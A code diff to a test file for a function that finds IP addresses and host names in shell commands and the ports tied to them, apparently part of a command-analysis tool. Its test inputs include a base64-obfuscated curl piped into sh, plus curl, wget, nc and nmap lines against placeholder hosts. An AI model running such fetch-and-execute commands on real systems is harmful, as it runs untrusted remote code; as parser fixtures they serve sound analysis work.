@@ -43,12 +43,31 @@ describe('addresses and names in a command', () => {
     [`echo ${encode('curl http://203.0.113.9:8000/c')} | base64 -d | sh`, [8000]],
     ['curl 203.0.113.9:80; ping 203.0.113.9', undefined],
     ['ping 203.0.113.9; curl 203.0.113.9:80', undefined],
-    ['curl http://203.0.113.9 2>/dev/null', undefined],
-    ['curl http://203.0.113.9/8080', undefined],
+    ['curl 203.0.113.9 2>/dev/null', undefined],
+    ['curl 203.0.113.9/8080', undefined],
+    ['curl http://203.0.113.9 2>/dev/null', [80, 443]],
+    ['curl http://203.0.113.9/8080', [80, 443]],
+    ["get('http://u:p@203.0.113.9')", [80, 443]],
+    ['curl https://203.0.113.9?a=1', [443]],
+    ['curl https://203.0.113.9:8443', [8443]],
+    ["get('http://203.0.113.9' + port)", undefined],
+    [`get(f'http://203.0.113.9{port}')`, undefined],
+    ['curl ftp://203.0.113.9/', undefined],
+    ['curl -x http://203.0.113.9 http://192.0.2.1/', undefined],
+    ['http_proxy=http://203.0.113.9 wget x', undefined],
     ['nmap -sT 203.0.113.9 203.0.113.10-12', undefined],
     ['nc 203.0.113.9 20-30', undefined],
   ])('have their ports with them: %s', (command, ports) => {
     expect(findMentions(command).find(({ value }) => value === '203.0.113.9')?.ports).toEqual(ports);
+  });
+
+  it.each<[string, readonly number[] | undefined]>([
+    ['curl http://relay.example/x', [80, 443]],
+    ['python3 xm.py relay.example:3333', [3333]],
+    ['curl relay.example', undefined],
+    ['curl http://relay.example/; dig relay.example', undefined],
+  ])('of a name have their ports with them: %s', (command, ports) => {
+    expect(findMentions(command).find(({ value }) => value === 'relay.example')?.ports).toEqual(ports);
   });
 
   it('are not versions, file names or arithmetic', () => {
